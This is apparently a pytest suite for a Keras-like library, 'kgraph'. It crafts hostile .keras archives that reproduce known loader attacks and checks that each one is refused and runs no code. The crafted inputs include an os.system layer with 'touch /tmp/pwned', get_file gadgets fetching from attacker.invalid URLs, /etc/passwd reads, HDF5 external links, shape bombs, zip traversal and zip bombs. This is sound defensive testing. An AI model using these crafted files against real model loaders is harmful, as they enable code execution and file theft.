"""Hostile ``.keras`` files: each attack known against Keras's loader, crafted here, is
refused with an error that says why; in a separate process with an audit hook, loading the
whole corpus imports nothing, runs no code, opens no file but the archives, changes no
global setting and stays within a memory bound; and randomly damaged files give clear
errors only."""

import copy
import io
import json
import os
import subprocess
import sys
import zipfile

import h5py
import numpy as np
import pytest

import kgraph as kg
from kgraph import layers
from kgraph.saving import ConfigError, LoadError

REFUSALS = (LoadError, ConfigError)


def _valid_parts(tmp_path):
    """``{"config.json": ..., "metadata.json": ..., "model.weights.h5": ...}`` of a small model."""
    x = kg.Input(shape=(3,), name="x")
    model = kg.Model(x, layers.Dense(2, name="out")(layers.BatchNormalization()(
        layers.Dense(4, name="hidden")(x))), name="victim")
    path = tmp_path / "valid.keras"
    model.save(str(path))
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _write(path, members):
    """A zip of ``members`` (``[(name or ZipInfo, bytes)]``), names written as given."""
    with zipfile.ZipFile(path, "w") as zf:
        for info, data in members:
            zf.writestr(info, data)
    return str(path)


def _with_config(tmp_path, name, parts, mutate):
    config = json.loads(parts["config.json"])
    mutate(config)
    members = dict(parts, **{"config.json": json.dumps(config).encode()})
    return _write(tmp_path / f"{name}.keras", list(members.items()))


def _layer(config, name):
    return next(entry for entry in config["config"]["layers"] if entry["name"] == name)


def _replace_layer(config, name, class_name, module, inner, registered_name=None):
    entry = _layer(config, name)
    entry.update(class_name=class_name, module=module, config=inner,
                 registered_name=registered_name)


def _lambda(function):
    return lambda config: _replace_layer(config, "hidden", "Lambda", "keras.layers",
                                         {"name": "hidden", "function": function,
                                          "arguments": {}})


def _with_h5(tmp_path, name, parts, mutate):
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        mutate(file)
    members = dict(parts, **{"model.weights.h5": buffer.getvalue()})
    return _write(tmp_path / f"{name}.keras", list(members.items()))


def _external_storage(file):
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_dataset("0", shape=(3, 4), dtype="f4",
                                             external=[("/etc/hostname", 0, 48)])


def _virtual(file):
    layout = h5py.VirtualLayout(shape=(3, 4), dtype="f4")
    layout[:] = h5py.VirtualSource("/etc/hostname", "data", shape=(3, 4))
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_virtual_dataset("0", layout)


def _chunked_gzip(file):
    data = file["layers/dense/vars/0"][()]
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_dataset("0", data=data, compression="gzip")


def _huge_shape(file):  # declares 40 TB; HDF5 allocates lazily, so the file stays small
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_dataset("0", shape=(100_000, 100_000_000), dtype="f4")


def _retyped(file):
    """Integers where a float weight is (another kind of number: never cast; a float64
    dataset loads into a float32 weight, cast, as Keras)."""
    data = file["layers/dense/vars/0"][()]
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_dataset("0", data=data.astype("int64"))


def _symlink_member():
    info = zipfile.ZipInfo("assets/link")
    info.external_attr = (0o120777 << 16)
    return info


def _mark_encrypted(path, name):
    """Set the "encrypted" flag of member ``name`` (zipfile cannot write encrypted files)."""
    data = bytearray(open(path, "rb").read())
    for signature, offset, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + name_at:start + name_at + len(name)] == name.encode():
                data[start + offset] |= 0x1
            start += 4
    open(path, "wb").write(bytes(data))
    return path


def corpus(tmp_path):
    """``[(name, path, load kwargs, expected message)]``: the hostile files."""
    parts = _valid_parts(tmp_path)
    items = []

    def config_attack(name, mutate, message, **kwargs):
        items.append((name, _with_config(tmp_path, name, parts, mutate), kwargs, message))

    def h5_attack(name, mutate, message):
        items.append((name, _with_h5(tmp_path, name, parts, mutate), {}, message))

    def zip_attack(name, members, message):
        items.append((name, _write(tmp_path / f"{name}.keras", members), {}, message))

    marshalled = {"class_name": "__lambda__", "config": {"code": "YmFkIGJ5dGVjb2Rl"}}
    # CVE-2024-3660: a Lambda carrying marshalled bytecode (refused in and out of safe mode)
    config_attack("lambda_bytecode", _lambda(marshalled), "Refusing to deserialize.*Lambda")
    config_attack("lambda_bytecode_unsafe", _lambda(marshalled), "stored as Python bytecode",
                  safe_mode=False)
    # CVE-2025-1550: any module's callable named as a layer class
    config_attack("module_callable", lambda c: _replace_layer(
        c, "hidden", "system", "os", {"command": "touch /tmp/pwned"}),
        "Could not locate class 'system'")
    # CVE-2025-9906: a Lambda that switches safe mode off while loading
    unsafe_switch = {"module": "keras.config", "class_name": "function",
                     "config": "enable_unsafe_deserialization", "registered_name": "function"}
    config_attack("lambda_enables_unsafe", _lambda(unsafe_switch), "Refusing to deserialize")
    config_attack("lambda_enables_unsafe_trusted", _lambda(unsafe_switch),
                  "not among custom_objects: kgraph never imports", safe_mode=False)
    # the Keras 3.15 hole: a Lambda naming keras.config.set_floatx
    set_floatx = {"module": "keras.config", "class_name": "function", "config": "set_floatx",
                  "registered_name": "function"}
    config_attack("lambda_set_floatx", _lambda(set_floatx), "not among custom_objects",
                  safe_mode=False)
    config_attack("activation_set_floatx", lambda c: _layer(c, "out")["config"].update(
        activation=set_floatx), "Unknown activation")
    # CVE-2025-8747: public "gadget" functions named as classes, with file-chosen arguments
    config_attack("gadget_get_file", lambda c: _replace_layer(
        c, "hidden", "get_file", "keras.utils",
        {"fname": "x", "origin": "http://attacker.invalid/x"}), "names a file or URL")
    config_attack("gadget_registered_name", lambda c: _replace_layer(
        c, "hidden", "Dense", "keras.layers", {"name": "hidden", "units": 4},
        registered_name="keras.src.utils.file_utils>get_file"), "resolved to a Keras built-in")
    # CVE-2025-12058: a vocabulary path that reads a local file
    config_attack("vocabulary_path", lambda c: _replace_layer(
        c, "hidden", "StringLookup", "keras.layers",
        {"name": "hidden", "vocabulary": "/etc/passwd"}), "names a file or URL")
    # CVE-2026-1462 and the PyTorch wrapper: layers that load what a path names
    config_attack("tfsm_layer", lambda c: _replace_layer(
        c, "hidden", "TFSMLayer", "keras.layers",
        {"name": "hidden", "filepath": "/tmp/saved_model"}), "names a file or URL")
    config_attack("torch_wrapper", lambda c: _replace_layer(
        c, "hidden", "TorchModuleWrapper", "keras.layers",
        {"name": "hidden", "module": "gASVAAAA"}), "Could not locate class 'TorchModuleWrapper'")
    config_attack("url_in_config", lambda c: _layer(c, "out")["config"].update(
        kernel_initializer="https://attacker.invalid/init"), "names a file or URL")
    config_attack("unknown_registered", lambda c: _replace_layer(
        c, "hidden", "Payload", "evil", {"name": "hidden"}, registered_name="evil>Payload"),
        "Could not locate class 'Payload'")
    # memory: a config that asks for 4e13 bytes of weights
    config_attack("huge_dense", lambda c: _layer(c, "out")["config"].update(units=10 ** 13),
                  "memory|bytes")
    config_attack("deep_json", lambda c: _layer(c, "out")["config"].update(
        extra=json.loads("[" * 300 + "]" * 300)), "MAX_CONFIG_DEPTH")
    # CVE-2026-1669 and relatives: HDF5 objects that read other files or data
    h5_attack("h5_external_link", lambda f: f["layers/dense/vars"].__setitem__(
        "2", h5py.ExternalLink("/etc/passwd", "/")), "ExternalLink")
    h5_attack("h5_soft_link", lambda f: f["layers/dense/vars"].__setitem__(
        "2", h5py.SoftLink("/layers/dense_1/vars/0")), "SoftLink")
    h5_attack("h5_external_storage", _external_storage, "external storage")
    h5_attack("h5_virtual", _virtual, "chunked or virtual")
    h5_attack("h5_filters", _chunked_gzip, "chunked or virtual")
    # CVE-2026-0897: a dataset declaring a huge shape
    h5_attack("h5_huge_shape", _huge_shape, "declares 40000000000000 bytes but stores 0.*shape bomb")
    h5_attack("h5_wrong_dtype", _retyped, "int64.*expects float32")
    h5_attack("h5_extra_dataset", lambda f: f["layers/dense/vars"].create_dataset(
        "7", data=np.zeros(3)), "unexpected dataset 'layers/dense/vars/7'")
    h5_attack("h5_missing_dataset", lambda f: f["layers/dense_1/vars"].__delitem__("1"),
              "lacks 1 weight.*layers/dense_1/vars/1")
    h5_attack("h5_cycle", lambda f: f["layers"].__setitem__("loop", f["layers"]),
              "unexpected dataset|too many")
    h5_attack("h5_unexpected_attribute", lambda f: f["layers/dense/vars/0"].attrs.__setitem__(
        "evil", "x"), "unexpected attribute 'evil'")
    # zip archives: traversal, absolute paths, links, duplicates, bombs, strays
    plain = list(parts.items())
    zip_attack("zip_traversal", plain + [("../evil.txt", b"x")], "plain relative paths")
    zip_attack("zip_absolute", plain + [("/tmp/evil.txt", b"x")], "plain relative paths")
    zip_attack("zip_symlink", plain + [(_symlink_member(), b"/etc/passwd")], "symbolic link")
    zip_attack("zip_duplicate", plain + [("config.json", b"{}")], "appears twice")
    zip_attack("zip_stray_member", plain + [("payload.py", b"import os")],
               "unexpected member 'payload.py'")
    items.append(("zip_encrypted", _mark_encrypted(_write(tmp_path / "enc.keras", plain),
                                                   "config.json"), {}, "encrypted"))
    zip_attack("zip_no_config", [m for m in plain if m[0] != "config.json"], "missing config")
    bomb = zipfile.ZipInfo("config.json")
    bomb.compress_type = zipfile.ZIP_DEFLATED
    zip_attack("zip_bomb", [(bomb, b" " * (20 << 20))] + plain[1:], "compression ratio")
    zip_attack("zip_assets", plain + [("assets/vocab.txt", b"a\nb")], "assets")
    items.append(("not_a_zip", _write_bytes(tmp_path / "nz.keras", b"PK\x03\x04garbage"), {},
                  "not a .keras"))
    items.append(("legacy_h5", _write_bytes(tmp_path / "legacy.h5", b"\x89HDF"), {},
                  "not a readable HDF5 file"))
    return items


def _write_bytes(path, data):
    path.write_bytes(data)
    return str(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return corpus(tmp_path_factory.mktemp("hostile"))


def test_the_corpus_reproduces_at_least_twenty_attacks(hostile):
    assert len(hostile) >= 20


def test_each_hostile_file_is_refused_with_a_clear_error(hostile):
    import re

    floatx, unsafe = kg.config.floatx(), kg.config.is_unsafe_deserialization_enabled()
    wrong = []
    for name, path, kwargs, message in hostile:
        try:
            kg.load_model(path, **kwargs)
            wrong.append((name, "loaded"))
        except REFUSALS as err:
            if not re.search(message, str(err)):
                wrong.append((name, f"{type(err).__name__}: {err}"))
        except Exception as err:  # noqa: BLE001 - any other error is unclear
            wrong.append((name, f"{type(err).__name__}: {err}"))
    assert wrong == []
    assert kg.config.floatx() == floatx
    assert kg.config.is_unsafe_deserialization_enabled() == unsafe


_AUDIT = r"""
import json, os, resource, sys
import kgraph as kg

paths = json.loads(sys.argv[1])
kg.load_model(paths.pop(0))  # a valid file first: everything loading uses is imported now
allowed = {os.path.realpath(p) for p in paths}
events, opened, before = [], set(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
watched = ("import", "exec", "compile", "open", "os.system", "subprocess.Popen",
           "socket.connect", "os.remove", "os.rename", "os.mkdir", "shutil.rmtree",
           "ctypes.dlopen", "marshal.loads", "pickle.find_class", "urllib.Request")

def hook(event, args):
    if event not in watched:
        return
    if event == "open":
        target = args[0]
        if isinstance(target, int):
            return
        if os.path.realpath(str(target)) in allowed:
            opened.add(os.path.realpath(str(target)))
            return
    if event == "compile" and args and args[1] in ("<unknown>",):
        return
    events.append([event, repr(args)[:200]])

sys.addaudithook(hook)
for path in paths:
    try:
        kg.load_model(path)
    except ValueError:
        pass
print(json.dumps({"events": events, "opened": len(opened), "floatx": kg.config.floatx(),
                  "unsafe": kg.config.is_unsafe_deserialization_enabled(),
                  "rss_growth_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before}))
"""


def test_loading_the_corpus_runs_no_code_and_opens_only_the_archives(hostile, tmp_path):
    valid = _write(tmp_path / "valid.keras", list(_valid_parts(tmp_path).items()))
    paths = [valid] + [path for _, path, kwargs, _ in hostile if not kwargs]
    result = subprocess.run([sys.executable, "-c", _AUDIT, json.dumps(paths)],
                            capture_output=True, text=True, timeout=300,
                            cwd=os.path.dirname(os.path.dirname(os.path.dirname(__file__))))
    assert result.returncode == 0, result.stderr[-3000:]
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["events"] == []
    # the hook saw every archive opened (a legacy .h5 is refused by its name, unopened)
    assert report["opened"] == len([p for p in paths[1:] if p.endswith(".keras")])
    assert report["floatx"] == "float32" and report["unsafe"] is False
    assert report["rss_growth_kb"] < 300 * 1024  # the corpus declares terabytes


def _flip_bytes(data, rng, count):
    data = bytearray(data)
    for position in rng.integers(0, len(data), count):
        data[position] = rng.integers(0, 256)
    return bytes(data)


def _mutate_config(config, rng):
    """Replace one random value somewhere in the config with a random odd value."""
    config = copy.deepcopy(config)
    stack, slots = [config], []
    while stack:
        value = stack.pop()
        items = value.items() if isinstance(value, dict) else enumerate(value)
        for key, item in items:
            slots.append((value, key))
            if isinstance(item, (dict, list)):
                stack.append(item)
    odd = [None, -1, 0, 10 ** 12, "", "/etc/passwd", [], {}, [None] * 3, 1.5, True,
           {"class_name": "__lambda__", "config": {}}, "x" * 1000]
    container, key = slots[rng.integers(len(slots))]
    container[key] = odd[rng.integers(len(odd))]
    return config


def test_randomly_damaged_files_give_clear_errors_only(tmp_path):
    parts = _valid_parts(tmp_path)
    rng = np.random.default_rng(0)
    config = json.loads(parts["config.json"])
    cases = []
    for i in range(120):  # damaged bytes in the whole archive
        archive = tmp_path / "whole.keras"
        data = _write(archive, list(parts.items()))
        cases.append(_flip_bytes(open(data, "rb").read(), rng, 1 + i % 8))
    for i in range(120):  # damaged weights file
        cases.append(("h5", _flip_bytes(parts["model.weights.h5"], rng, 1 + i % 8)))
    for i in range(160):  # damaged config values
        cases.append(("config", json.dumps(_mutate_config(config, rng)).encode()))
    loaded = refused = 0
    for i, case in enumerate(cases):
        path = tmp_path / f"damaged_{i}.keras"
        if isinstance(case, bytes):
            path.write_bytes(case)
        else:
            member = "model.weights.h5" if case[0] == "h5" else "config.json"
            _write(path, list(dict(parts, **{member: case[1]}).items()))
        try:
            kg.load_model(str(path))
            loaded += 1
        except REFUSALS as err:
            assert str(err)
            refused += 1
    assert refused > len(cases) // 4 and loaded + refused == len(cases), (loaded, refused)


def test_a_hostile_training_configuration_is_not_followed(tmp_path):
    parts = _valid_parts(tmp_path)
    gadget = {"module": "keras.utils", "class_name": "get_file", "config": {"cache_dir": 1}}
    for optimizer, loss in ((gadget, "mse"), ("sgd", {"class_name": "inspect", "config": {}}),
                            ("sgd", {"class_name": "Metric", "config": {}})):
        path = _with_config(tmp_path, "compile", parts, lambda c: c.update(
            compile_config={"optimizer": optimizer, "loss": loss, "metrics": None}))
        with pytest.warns(UserWarning, match="could not be compiled"):
            model = kg.load_model(path)
        assert model.optimizer is None  # loaded, weights and all, but not compiled
